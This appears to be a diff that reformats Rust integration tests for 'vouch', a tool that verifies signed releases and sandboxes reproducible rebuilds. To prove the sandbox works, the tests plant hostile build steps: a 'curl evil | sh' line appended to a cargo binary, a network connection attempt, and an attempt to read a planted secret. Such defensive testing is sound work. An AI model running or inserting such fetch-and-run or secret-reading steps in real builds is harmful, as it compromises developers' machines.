@@ -29,7 +29,17 @@ fn rebuilds_bit_for_bit_offline_with_an_empty_cargo_home() {
     let policy = r.policy("trust.toml", &["release"]);
     let run = TestCommand::new(
         "unshare",
-        ["-n", "--", vouch_bin().to_str().unwrap(), "rebuild", b.to_str().unwrap(), "--source", copy.to_str().unwrap(), "--trust", policy.to_str().unwrap()],
+        [
+            "-n",
+            "--",
+            vouch_bin().to_str().unwrap(),
+            "rebuild",
+            b.to_str().unwrap(),
+            "--source",
+            copy.to_str().unwrap(),
+            "--trust",
+            policy.to_str().unwrap(),
+        ],
     )
     .env("CARGO_HOME", &empty_home)
     .env_remove("SOURCE_DATE_EPOCH")
@@ -50,11 +60,20 @@ fn a_changed_byte_is_refused_at_the_source_check_or_explained() {
     let work = r.dir.mkdir("work");
     let policy = r.policy("trust.toml", &["release"]);
     let trust = policy.to_str().unwrap();
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", copy.to_str().unwrap(), "--trust", trust, "--workdir", work.to_str().unwrap()])
-        .run()
-        .code(1)
-        .says("modified  src/main.rs")
-        .says("refusing to rebuild");
+    TestCommand::vouch([
+        "rebuild",
+        b.to_str().unwrap(),
+        "--source",
+        copy.to_str().unwrap(),
+        "--trust",
+        trust,
+        "--workdir",
+        work.to_str().unwrap(),
+    ])
+    .run()
+    .code(1)
+    .says("modified  src/main.rs")
+    .says("refusing to rebuild");
     assert_eq!(std::fs::read_dir(&work).unwrap().count(), 0, "nothing built");
 
     // Past the source check (a test-only route), the artifact comparison fails, explained.
@@ -71,7 +90,12 @@ fn a_changed_byte_is_refused_at_the_source_check_or_explained() {
     ])
     .env("PATH", "/usr/bin:/bin:".to_string() + &std::env::var("PATH").unwrap())
     .run();
-    run.code(1).says("DIFFERENT  target/release/hello").says("first difference at byte").says("release  ").says("rebuilt  ").says("NOT REPRODUCED");
+    run.code(1)
+        .says("DIFFERENT  target/release/hello")
+        .says("first difference at byte")
+        .says("release  ")
+        .says("rebuilt  ")
+        .says("NOT REPRODUCED");
     // diffoscope (installed by scripts/test.sh) explains the difference in a text report.
     vouch_tests::peer_tool("diffoscope");
     let line = run
@@ -81,7 +105,11 @@ fn a_changed_byte_is_refused_at_the_source_check_or_explained() {
         .unwrap_or_else(|| panic!("no diffoscope report in:\n{}", run.stdout));
     let report = std::fs::read_to_string(line).unwrap();
     // The rebuilt side's string, which only the changed source has.
-    assert!(report.contains("hullo from"), "the report shows the changed string:\n{}", &report[..report.len().min(2000)]);
+    assert!(
+        report.contains("hullo from"),
+        "the report shows the changed string:\n{}",
+        &report[..report.len().min(2000)]
+    );
     std::fs::remove_file(line).unwrap();
     assert_eq!(std::fs::read_dir(&work).unwrap().count(), 0, "work directory removed without --keep");
 }
@@ -93,7 +121,9 @@ fn signed_rebuild_reports_count_for_the_builder_role() {
     let b = r.bundle("0.1.0");
     // An independent rebuilder with a key of its own.
     let keys = r.dir.mkdir("builder-keys");
-    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"]).run().ok();
+    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"])
+        .run()
+        .ok();
     let builder_pub = std::fs::read_to_string(keys.join("builder.pub")).unwrap().lines().nth(1).unwrap().to_string();
     let release_pub = std::fs::read_to_string(&r.public).unwrap().lines().nth(1).unwrap().to_string();
     let policy = r.dir.write(
@@ -102,7 +132,10 @@ fn signed_rebuild_reports_count_for_the_builder_role() {
             "[keys.acme-release]\npublic = \"{release_pub}\"\nroles = [\"release\"]\n\n[keys.gov-rebuilder]\npublic = \"{builder_pub}\"\nroles = [\"builder\"]\n\n[roles.release]\nthreshold = 1\n\n[roles.builder]\nthreshold = 1\n"
         ),
     );
-    TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()]).run().code(1).says("role builder: 0 of 1");
+    TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()])
+        .run()
+        .code(1)
+        .says("role builder: 0 of 1");
     let copy = deeper_copy(&r);
     // The rebuilder verifies the release under its own policy (the release
     // key), before the builder role can be met.
@@ -121,9 +154,12 @@ fn signed_rebuild_reports_count_for_the_builder_role() {
     .run()
     .ok()
     .says("REPRODUCED");
-    let reports: Vec<String> = std::fs::read_dir(b.join("reports")).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
+    let reports: Vec<String> =
+        std::fs::read_dir(b.join("reports")).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
     assert_eq!(reports.len(), 2, "{reports:?}");
-    let v = TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--format", "json"]).run();
+    let v =
+        TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--format", "json"])
+            .run();
     v.ok();
     let report: VerifyReport = v.json();
     assert!(report.counted_keys.iter().any(|k| k.starts_with("gov-rebuilder")), "{:?}", report.counted_keys);
@@ -139,7 +175,10 @@ fn signed_rebuild_reports_count_for_the_builder_role() {
     let path = b.join("reports").join(json);
     let text = std::fs::read_to_string(&path).unwrap().replace("\"reproduced\":true", "\"reproduced\":true ");
     std::fs::write(&path, text).unwrap();
-    TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()]).run().code(1).says("does not count");
+    TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()])
+        .run()
+        .code(1)
+        .says("does not count");
 }
 
 /// A non-Cargo project whose build hangs, or writes outside its directory,
@@ -153,8 +192,27 @@ fn script_project(r: &Release, body: &str) -> std::path::PathBuf {
     .unwrap();
     let out = r.bundles.to_str().unwrap();
     TestCommand::vouch([
-        "release", "--source", src.to_str().unwrap(), "--exclude", "out.bin", "--name", "script", "--version", "1.0.0", "--key", r.key.to_str().unwrap(),
-        "--out", out, "--no-git", "--exclude", "out.bin", "--artifact", "out.bin", "--", "sh", "build.sh",
+        "release",
+        "--source",
+        src.to_str().unwrap(),
+        "--exclude",
+        "out.bin",
+        "--name",
+        "script",
+        "--version",
+        "1.0.0",
+        "--key",
+        r.key.to_str().unwrap(),
+        "--out",
+        out,
+        "--no-git",
+        "--exclude",
+        "out.bin",
+        "--artifact",
+        "out.bin",
+        "--",
+        "sh",
+        "build.sh",
     ])
     .run()
     .ok();
@@ -170,14 +228,39 @@ fn a_hanging_build_is_killed_at_the_timeout_and_cleaned_up() {
     let policy = r.policy("trust.toml", &["release"]);
     let trust = policy.to_str().unwrap();
     let started = std::time::Instant::now();
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", trust, "--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "2"])
-        .run()
-        .code(2)
-        .says("timed out after 2 s");
+    TestCommand::vouch([
+        "rebuild",
+        b.to_str().unwrap(),
+        "--source",
+        src.to_str().unwrap(),
+        "--trust",
+        trust,
+        "--exclude",
+        "out.bin",
+        "--workdir",
+        work.to_str().unwrap(),
+        "--timeout",
+        "2",
+    ])
+    .run()
+    .code(2)
+    .says("timed out after 2 s");
     assert!(started.elapsed().as_secs() < 60, "the build was killed");
     assert_eq!(std::fs::read_dir(&work).unwrap().count(), 0, "work directory removed");
     TestCommand::vouch([
-        "rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", trust, "--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "2", "--keep",
+        "rebuild",
+        b.to_str().unwrap(),
+        "--source",
+        src.to_str().unwrap(),
+        "--trust",
+        trust,
+        "--exclude",
+        "out.bin",
+        "--workdir",
+        work.to_str().unwrap(),
+        "--timeout",
+        "2",
+        "--keep",
     ])
     .run()
     .code(2);
@@ -191,10 +274,19 @@ fn a_build_writing_outside_its_work_directory_fails() {
     let src = script_project(&r, &format!("echo leak > {}/leaked", outside.display()));
     let b = r.bundles.join("script-1.0.0");
     let policy = r.policy("trust.toml", &["release"]);
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--exclude", "out.bin"])
-        .run()
-        .code(2)
-        .says("build failed");
+    TestCommand::vouch([
+        "rebuild",
+        b.to_str().unwrap(),
+        "--source",
+        src.to_str().unwrap(),
+        "--trust",
+        policy.to_str().unwrap(),
+        "--exclude",
+        "out.bin",
+    ])
+    .run()
+    .code(2)
+    .says("build failed");
     assert!(!outside.join("leaked").exists(), "the write outside the work directory was stopped");
 }
 
@@ -207,29 +299,81 @@ fn bad_input_exits_2() {
     let trust = policy.to_str().unwrap();
     // An unwritable work directory (a file in the way).
     let blocker = r.dir.write("blocker", "x");
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", trust, "--exclude", "out.bin", "--workdir", blocker.to_str().unwrap()])
-        .run()
-        .code(2)
-        .says("blocker");
+    TestCommand::vouch([
+        "rebuild",
+        b.to_str().unwrap(),
+        "--source",
+        src.to_str().unwrap(),
+        "--trust",
+        trust,
+        "--exclude",
+        "out.bin",
+        "--workdir",
+        blocker.to_str().unwrap(),
+    ])
+    .run()
+    .code(2)
+    .says("blocker");
     // A bundle without a build section.
     let plain = r.dir.mkdir("plain/p-1");
     let d = Dir::new();
     d.write("f", "x");
-    TestCommand::vouch(["manifest", "create", d.path().to_str().unwrap(), "--name", "p", "--version", "1", "-o", plain.join("manifest.json").to_str().unwrap()])
-        .run()
-        .ok();
-    TestCommand::vouch(["rebuild", plain.to_str().unwrap(), "--source", d.path().to_str().unwrap(), "--trust", trust]).run().code(2).says("no build section");
-    // Missing source.
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", "/nonexistent/src", "--trust", trust]).run().code(2).says("/nonexistent/src");
-    // --sign-report on an archive, and without a key.
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", trust, "--exclude", "out.bin", "--sign-report"]).run().code(2).says("--key");
-    // No policy at all: --trust is required.
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--exclude", "out.bin"]).run().code(2).says("--trust");
-    // A policy that cannot be read.
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", "/nonexistent/trust.toml", "--exclude", "out.bin"])
+    TestCommand::vouch([
+        "manifest",
+        "create",
+        d.path().to_str().unwrap(),
+        "--name",
+        "p",
+        "--version",
+        "1",
+        "-o",
+        plain.join("manifest.json").to_str().unwrap(),
+    ])
+    .run()
+    .ok();
+    TestCommand::vouch(["rebuild", plain.to_str().unwrap(), "--source", d.path().to_str().unwrap(), "--trust", trust])
         .run()
         .code(2)
-        .says("/nonexistent/trust.toml");
+        .says("no build section");
+    // Missing source.
+    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", "/nonexistent/src", "--trust", trust])
+        .run()
+        .code(2)
+        .says("/nonexistent/src");
+    // --sign-report on an archive, and without a key.
+    TestCommand::vouch([
+        "rebuild",
+        b.to_str().unwrap(),
+        "--source",
+        src.to_str().unwrap(),
+        "--trust",
+        trust,
+        "--exclude",
+        "out.bin",
+        "--sign-report",
+    ])
+    .run()
+    .code(2)
+    .says("--key");
+    // No policy at all: --trust is required.
+    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--exclude", "out.bin"])
+        .run()
+        .code(2)
+        .says("--trust");
+    // A policy that cannot be read.
+    TestCommand::vouch([
+        "rebuild",
+        b.to_str().unwrap(),
+        "--source",
+        src.to_str().unwrap(),
+        "--trust",
+        "/nonexistent/trust.toml",
+        "--exclude",
+        "out.bin",
+    ])
+    .run()
+    .code(2)
+    .says("/nonexistent/trust.toml");
     let _ = Path::new("");
 }
 
@@ -244,9 +388,10 @@ fn script_bundle(r: &Release, body: &str) -> (std::path::PathBuf, std::path::Pat
 
 /// `vouch rebuild` of the script bundle with a work directory of its own.
 fn rebuild_script(b: &Path, src: &Path, policy: &Path, work: &Path, extra: &[&str]) -> TestCommand {
-    let mut args: Vec<String> = ["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap()]
-        .map(String::from)
-        .to_vec();
+    let mut args: Vec<String> =
+        ["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap()]
+            .map(String::from)
+            .to_vec();
     args.extend(["--exclude", "out.bin", "--workdir", work.to_str().unwrap()].map(String::from));
     args.extend(extra.iter().map(|s| s.to_string()));
     TestCommand::vouch(args)
@@ -264,27 +409,43 @@ fn issue_14_a_bundle_that_does_not_verify_is_refused_before_anything_it_controls
     let (src, b, policy) = script_bundle(&r, &format!("touch {}", marker.display()));
     let work = r.dir.mkdir("work");
     let keys = r.dir.mkdir("builder-keys");
-    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"]).run().ok();
+    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"])
+        .run()
+        .ok();
     let builder_key = keys.join("builder.key");
     let sign_report = ["--sign-report", "--key", builder_key.to_str().unwrap()];
 
     // Signed by a key outside the policy.
     let other = Release::new();
     let foreign = other.policy("foreign.toml", &["release"]);
-    rebuild_script(&b, &src, &foreign, &work, &sign_report).run().code(1).says("not in the policy").says("refusing to rebuild");
+    rebuild_script(&b, &src, &foreign, &work, &sign_report)
+        .run()
+        .code(1)
+        .says("not in the policy")
+        .says("refusing to rebuild");
     assert!(is_empty(&work) && !marker.exists() && !b.join("reports").exists(), "nothing ran, nothing was written");
 
     // Edited after signing: the command now does something else.
     let manifest = b.join("manifest.json");
     let original = std::fs::read_to_string(&manifest).unwrap();
-    edit_manifest(&b, |m| m["build"]["command"] = serde_json::json!(["sh", "-c", "touch ran-edited; printf 'built\\n' > out.bin"]));
-    rebuild_script(&b, &src, &policy, &work, &sign_report).run().code(1).says("does not verify").says("refusing to rebuild");
+    edit_manifest(&b, |m| {
+        m["build"]["command"] = serde_json::json!(["sh", "-c", "touch ran-edited; printf 'built\\n' > out.bin"])
+    });
+    rebuild_script(&b, &src, &policy, &work, &sign_report)
+        .run()
+        .code(1)
+        .says("does not verify")
+        .says("refusing to rebuild");
     assert!(is_empty(&work) && !b.join("reports").exists(), "the edited command did not run");
     std::fs::write(&manifest, &original).unwrap();
 
     // Unsigned.
     std::fs::rename(b.join("signatures"), r.dir.join("signatures-aside")).unwrap();
-    rebuild_script(&b, &src, &policy, &work, &sign_report).run().code(1).says("no signatures").says("refusing to rebuild");
+    rebuild_script(&b, &src, &policy, &work, &sign_report)
+        .run()
+        .code(1)
+        .says("no signatures")
+        .says("refusing to rebuild");
     assert!(is_empty(&work) && !marker.exists() && !b.join("reports").exists(), "the unsigned build did not run");
     std::fs::rename(r.dir.join("signatures-aside"), b.join("signatures")).unwrap();
 
@@ -299,7 +460,9 @@ fn issue_14_sign_report_checks_first_that_the_report_can_be_written() {
     let (src, b, policy) = script_bundle(&r, "true");
     let work = r.dir.mkdir("work");
     let keys = r.dir.mkdir("builder-keys");
-    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"]).run().ok();
+    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"])
+        .run()
+        .ok();
     // reports/ is a file: no report can go there.
     std::fs::write(b.join("reports"), "in the way").unwrap();
     rebuild_script(&b, &src, &policy, &work, &["--sign-report", "--key", keys.join("builder.key").to_str().unwrap()])
@@ -329,8 +492,15 @@ fn issue_14_env_names_outside_the_allow_list_and_workdirs_outside_the_source_are
         edit_manifest(&b, |m| {
             m["build"]["env"][name] = serde_json::json!("/tmp/x");
         });
-        rebuild_script(&b, &src, &policy, &work, &[]).run().code(1).says(&format!("build.env sets \"{name}\"")).says("not an allow-listed");
-        TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()]).run().code(2).says(name);
+        rebuild_script(&b, &src, &policy, &work, &[])
+            .run()
+            .code(1)
+            .says(&format!("build.env sets \"{name}\""))
+            .says("not an allow-listed");
+        TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()])
+            .run()
+            .code(2)
+            .says(name);
         std::fs::write(b.join("manifest.json"), &manifest).unwrap();
     }
     for dir in ["../..", "/", "a/../../b", "./x/.."] {
@@ -380,7 +550,11 @@ fn issue_14_a_build_cannot_read_outside_its_work_directory_the_toolchain_and_the
         let work = r.dir.mkdir(format!("work-{what}"));
         let run = rebuild_script(&b, &src, &policy, &work, &[]).run();
         run.code(2).says("build failed").says("Permission denied");
-        assert!(!run.stderr.contains("THE-REVIEWERS-SECRET") && !run.stderr.contains("untrusted comment"), "{what}: {}", run.stderr);
+        assert!(
+            !run.stderr.contains("THE-REVIEWERS-SECRET") && !run.stderr.contains("untrusted comment"),
+            "{what}: {}",
+            run.stderr
+        );
         assert!(is_empty(&work));
         std::fs::remove_dir_all(r.dir.join("script-src")).unwrap();
         std::fs::remove_dir_all(r.dir.join("bundles")).unwrap();
@@ -395,7 +569,12 @@ fn issue_14_a_build_cannot_write_the_cargo_home_or_outside_its_work_directory() 
     let cargo = r.dir.write("reviewer-cargo-home/bin/cargo", "#!/bin/sh\n");
     let (src, b, policy) = script_bundle(&r, &format!("echo 'curl evil | sh' >> {}", cargo.display()));
     let work = r.dir.mkdir("work");
-    rebuild_script(&b, &src, &policy, &work, &[]).env("CARGO_HOME", &cargo_home).run().code(2).says("build failed").says("Permission denied");
+    rebuild_script(&b, &src, &policy, &work, &[])
+        .env("CARGO_HOME", &cargo_home)
+        .run()
+        .code(2)
+        .says("build failed")
+        .says("Permission denied");
     assert_eq!(std::fs::read_to_string(&cargo).unwrap(), "#!/bin/sh\n", "bin/cargo is unchanged");
     assert!(is_empty(&work));
 }
@@ -408,7 +587,9 @@ fn issue_14_a_build_cannot_reach_the_network() {
     listener.set_nonblocking(true).unwrap();
     let (src, b, policy) = script_bundle(
         &r,
-        &format!("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('CONNECTED')\""),
+        &format!(
+            "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('CONNECTED')\""
+        ),
     );
     let work = r.dir.mkdir("work");
     let run = rebuild_script(&b, &src, &policy, &work, &[]).run();
@@ -445,7 +626,14 @@ fn issue_14_an_interrupted_rebuild_kills_the_whole_build_and_removes_its_work_di
         let nap = if keep { "6121" } else { "6122" };
         let (src, b, policy) = script_bundle(&r, &format!("sleep {nap} & sleep {nap}"));
         let work = r.dir.mkdir("work");
-        let mut args = vec!["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap()];
+        let mut args = vec![
+            "rebuild",
+            b.to_str().unwrap(),
+            "--source",
+            src.to_str().unwrap(),
+            "--trust",
+            policy.to_str().unwrap(),
+        ];
         args.extend(["--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "300"]);
         if keep {
             args.push("--keep");
@@ -469,7 +657,10 @@ fn issue_14_an_interrupted_rebuild_kills_the_whole_build_and_removes_its_work_di
         assert_eq!(out.status.code(), Some(2), "SIG{signal}: {stderr}");
         assert!(stderr.contains("interrupted"), "SIG{signal}: {stderr}");
         assert!(started.elapsed().as_secs() < 60, "stopped promptly");
-        assert!(processes_running(&["sleep", nap]).is_empty(), "SIG{signal}: the build's whole process group was killed");
+        assert!(
+            processes_running(&["sleep", nap]).is_empty(),
+            "SIG{signal}: the build's whole process group was killed"
+        );
         if keep {
             assert!(work.join("script-1.0.0-rebuild/build.log").exists(), "--keep keeps the work directory");
             assert!(stderr.contains("work directory is kept"), "{stderr}");
@@ -495,7 +686,9 @@ fn issue_14_a_builder_report_counts_only_when_every_artifact_is_identical() {
     let r = Release::new();
     let (_src, b, _) = script_bundle(&r, "true");
     let keys = r.dir.mkdir("builder-keys");
-    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"]).run().ok();
+    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"])
+        .run()
+        .ok();
     let key = keys.join("builder.key");
     let builder_pub = std::fs::read_to_string(keys.join("builder.pub")).unwrap().lines().nth(1).unwrap().to_string();
     let release_pub = std::fs::read_to_string(&r.public).unwrap().lines().nth(1).unwrap().to_string();
@@ -516,16 +709,17 @@ fn issue_14_a_builder_report_counts_only_when_every_artifact_is_identical() {
             "toolchain": {}, "toolchain_matches": true, "artifacts": artifacts, "reproduced": true,
         })
     };
-    let entry = |actual: &str, identical: bool| {
-        serde_json::json!({"path": art["path"], "expected": art["digest"], "expected_size": art["size"], "actual": actual, "actual_size": art["size"], "identical": identical})
-    };
+    let entry = |actual: &str, identical: bool| serde_json::json!({"path": art["path"], "expected": art["digest"], "expected_size": art["size"], "actual": actual, "actual_size": art["size"], "identical": identical});
     let verify = || TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()]).run();
     for (why, artifacts) in [
         ("does not name artifact out.bin", serde_json::json!([])),
         ("is not identical", serde_json::json!([entry(&other, false)])),
         ("is not identical", serde_json::json!([entry(&other, true)])),
         ("is not identical", serde_json::json!([entry(art["digest"].as_str().unwrap(), false)])),
-        ("not an artifact of the manifest", serde_json::json!([entry(art["digest"].as_str().unwrap(), true), {"path": "extra.bin", "expected": other, "expected_size": 1, "identical": true, "actual": other}])),
+        (
+            "not an artifact of the manifest",
+            serde_json::json!([entry(art["digest"].as_str().unwrap(), true), {"path": "extra.bin", "expected": other, "expected_size": 1, "identical": true, "actual": other}]),
+        ),
     ] {
         plant_report(&b, &key, "builder", &report(artifacts));
         verify().code(1).says("does not count").says(why).says("role builder: 0 of 1");
@@ -582,16 +776,30 @@ fn issue_14_locked_crates_come_from_the_local_cache_into_a_private_cargo_home() 
     std::fs::copy(index.join(&file), &cached).unwrap();
     let before = listing(&cache);
     let rebuild = |home: &Path| {
-        TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", copy.to_str().unwrap(), "--trust", policy.to_str().unwrap()])
-            .env("CARGO_HOME", home)
-            .run()
+        TestCommand::vouch([
+            "rebuild",
+            b.to_str().unwrap(),
+            "--source",
+            copy.to_str().unwrap(),
+            "--trust",
+            policy.to_str().unwrap(),
+        ])
+        .env("CARGO_HOME", home)
+        .run()
     };
     rebuild(&cache).ok().says("identical  target/release/hello").says("REPRODUCED");
     assert_eq!(listing(&cache), before, "the reviewer's cargo home is read, never written");
 
     // A crate missing from the cache is named, with the way out.
     let empty = r.dir.mkdir("empty-cargo-home");
-    rebuild(&empty).code(2).says(&format!("dependency {} {} is not in the local cargo cache", deps[0]["name"].as_str().unwrap(), deps[0]["version"].as_str().unwrap())).says("--include-dependencies");
+    rebuild(&empty)
+        .code(2)
+        .says(&format!(
+            "dependency {} {} is not in the local cargo cache",
+            deps[0]["name"].as_str().unwrap(),
+            deps[0]["version"].as_str().unwrap()
+        ))
+        .says("--include-dependencies");
     assert!(is_empty(&empty));
     // A cached file that is not the locked crate is refused.
     std::fs::write(&cached, b"not the crate").unwrap();
@@ -604,7 +812,16 @@ fn issue_14_the_default_work_directory_is_removed_or_kept_as_asked() {
     let (src, b, policy) = script_bundle(&r, "true");
     let tmp = r.dir.mkdir("tmp");
     let run = |extra: &[&str]| {
-        let mut args = vec!["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--exclude", "out.bin"];
+        let mut args = vec![
+            "rebuild",
+            b.to_str().unwrap(),
+            "--source",
+            src.to_str().unwrap(),
+            "--trust",
+            policy.to_str().unwrap(),
+            "--exclude",
+            "out.bin",
+        ];
         args.extend(extra);
         TestCommand::vouch(args).env("TMPDIR", &tmp).run()
     };
@@ -612,7 +829,8 @@ fn issue_14_the_default_work_directory_is_removed_or_kept_as_asked() {
     assert!(is_empty(&tmp), "nothing left behind");
     let kept = run(&["--keep"]);
     kept.ok();
-    let dir = kept.stderr.lines().find_map(|l| l.strip_prefix("work directory kept: ")).expect("the kept directory is named");
+    let dir =
+        kept.stderr.lines().find_map(|l| l.strip_prefix("work directory kept: ")).expect("the kept directory is named");
     assert!(Path::new(dir).join("build.log").is_file(), "--keep keeps {dir}");
 }
 
@@ -634,13 +852,15 @@ fn trust(r: &Release) -> std::path::PathBuf {
 
 /// `vouch rebuild BUNDLE --source SRC --trust POLICY` plus `extra`.
 fn rebuild_cmd(b: &Path, src: &Path, policy: &Path, extra: &[&str]) -> TestCommand {
-    let mut args = vec!["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap()];
+    let mut args =
+        vec!["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap()];
     args.extend(extra);
     TestCommand::vouch(args).env_remove("SOURCE_DATE_EPOCH")
 }
 
 #[test]
-fn issue_15_a_build_that_embeds_git_rev_parse_reproduces_from_a_git_checkout_elsewhere_and_is_warned_about_from_a_copy() {
+fn issue_15_a_build_that_embeds_git_rev_parse_reproduces_from_a_git_checkout_elsewhere_and_is_warned_about_from_a_copy()
+{
     let r = Release::new();
     // A build script that asks git, as ripgrep's build.rs does.
     let src = r.dir.mkdir("git-src");
@@ -656,8 +876,23 @@ fn issue_15_a_build_that_embeds_git_rev_parse_reproduces_from_a_git_checkout_els
     vouch_tests::git(&src, &["tag", "v1.0.0"]).ok();
     let out = r.bundles.to_str().unwrap();
     TestCommand::vouch([
-        "release", "--source", src.to_str().unwrap(), "--name", "gitty", "--version", "1.0.0", "--key", r.key.to_str().unwrap(), "--out", out,
-        "--artifact", "out.bin", "--include-artifacts", "--", "sh", "build.sh",
+        "release",
+        "--source",
+        src.to_str().unwrap(),
+        "--name",
+        "gitty",
+        "--version",
+        "1.0.0",
+        "--key",
+        r.key.to_str().unwrap(),
+        "--out",
+        out,
+        "--artifact",
+        "out.bin",
+        "--include-artifacts",
+        "--",
+        "sh",
+        "build.sh",
     ])
     .run()
     .ok();
@@ -674,7 +909,11 @@ fn issue_15_a_build_that_embeds_git_rev_parse_reproduces_from_a_git_checkout_els
     let run = rebuild_cmd(&b, &checkout, &policy, &[]).run();
     run.ok().says("git metadata: the build sees a clean clone at commit").says("identical  out.bin").says("REPRODUCED");
     assert!(!run.stderr.contains("warning: no git metadata"), "{}", run.stderr);
-    assert_eq!(vouch_tests::git(&checkout, &["status", "--porcelain"]).stdout, "", "the reviewer's checkout is untouched");
+    assert_eq!(
+        vouch_tests::git(&checkout, &["status", "--porcelain"]).stdout,
+        "",
+        "the reviewer's checkout is untouched"
+    );
 
     // A plain copy of the same files: said before the build, and the
     // difference named as the commit the release embeds.
@@ -714,9 +953,28 @@ fn issue_15_the_recorded_rust_toolchain_is_picked_from_rustup() {
         .expect("a nightly toolchain is installed");
     let r = Release::new();
     let run = TestCommand::vouch([
-        "release", "--source", r.src.to_str().unwrap(), "--name", "hello", "--version", "0.1.0", "--key", r.key.to_str().unwrap(),
-        "--out", r.bundles.to_str().unwrap(), "--no-git", "--exclude", "target", "--artifact", "target/release/hello",
-        "--include-dependencies", "--", "cargo", "build", "--release", "--locked",
+        "release",
+        "--source",
+        r.src.to_str().unwrap(),
+        "--name",
+        "hello",
+        "--version",
+        "0.1.0",
+        "--key",
+        r.key.to_str().unwrap(),
+        "--out",
+        r.bundles.to_str().unwrap(),
+        "--no-git",
+        "--exclude",
+        "target",
+        "--artifact",
+        "target/release/hello",
+        "--include-dependencies",
+        "--",
+        "cargo",
+        "build",
+        "--release",
+        "--locked",
     ])
     .env("RUSTUP_TOOLCHAIN", &nightly)
     .env("SOURCE_DATE_EPOCH", "1700000000")
@@ -753,13 +1011,33 @@ fn issue_15_a_rust_toolchain_that_is_not_installed_is_refused_with_the_install_c
     .unwrap();
     // Its cargo too (rustup's proxy would look for the pinned toolchain).
     std::fs::write(fake.join("cargo"), "#!/bin/sh\nprintf 'cargo 1.80.0 (376290515 2024-07-16)\\n'\n").unwrap();
-    std::process::Command::new("chmod").args(["+x", fake.join("rustc").to_str().unwrap(), fake.join("cargo").to_str().unwrap()]).status().unwrap();
+    std::process::Command::new("chmod")
+        .args(["+x", fake.join("rustc").to_str().unwrap(), fake.join("cargo").to_str().unwrap()])
+        .status()
+        .unwrap();
     let src = r.dir.mkdir("pinned-src");
     std::fs::write(src.join("build.sh"), "printf 'built\\n' > out.bin\n").unwrap();
     std::fs::write(src.join("rust-toolchain.toml"), "[toolchain]\nchannel = \"1.80.0\"\n").unwrap();
     TestCommand::vouch([
-        "release", "--source", src.to_str().unwrap(), "--name", "pinned", "--version", "1.0.0", "--key", r.key.to_str().unwrap(), "--out",
-        r.bundles.to_str().unwrap(), "--no-git", "--exclude", "out.bin", "--artifact", "out.bin", "--", "sh", "build.sh",
+        "release",
+        "--source",
+        src.to_str().unwrap(),
+        "--name",
+        "pinned",
+        "--version",
+        "1.0.0",
+        "--key",
+        r.key.to_str().unwrap(),
+        "--out",
+        r.bundles.to_str().unwrap(),
+        "--no-git",
+        "--exclude",
+        "out.bin",
+        "--artifact",
+        "out.bin",
+        "--",
+        "sh",
+        "build.sh",
     ])
     .env("PATH", format!("{}:{}", fake.display(), std::env::var("PATH").unwrap()))
     .run()
@@ -805,12 +1083,36 @@ fn c_project(dir: &Path, greet_c: &str, make_greet: Option<&str>) {
 }
 
 /// Releases the C project at `<r.dir>/c-src` with CFLAGS="-O2 -g"; returns the bundle.
